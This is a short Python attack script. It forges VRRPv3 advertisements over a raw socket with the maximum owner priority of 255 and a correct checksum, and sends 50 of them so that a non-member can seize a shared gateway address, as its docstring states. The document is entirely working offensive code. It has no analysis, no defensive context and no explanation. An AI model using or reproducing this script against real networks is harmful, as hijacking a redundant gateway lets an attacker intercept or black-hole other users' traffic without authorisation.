"""Claim the address as somebody who is no peer, with the highest priority of all: SOURCE TARGET SHARED."""

import socket
import struct
import sys
import time

source, target, shared = (socket.inet_aton(text) for text in sys.argv[1:])
body = struct.pack("!BBBBHH", 0x31, 51, 255, 1, 100, 0) + shared
words = struct.unpack(f"!{(12 + len(body)) // 2}H", source + target + struct.pack("!HH", 112, len(body)) + body)
total = sum(words)
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
advertisement = body[:6] + struct.pack("!H", ~total & 0xFFFF) + body[8:]
with socket.socket(socket.AF_INET, socket.SOCK_RAW, 112) as connection:
    connection.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    for _ in range(50):
        connection.sendto(advertisement, (sys.argv[2], 0))
        time.sleep(0.1)
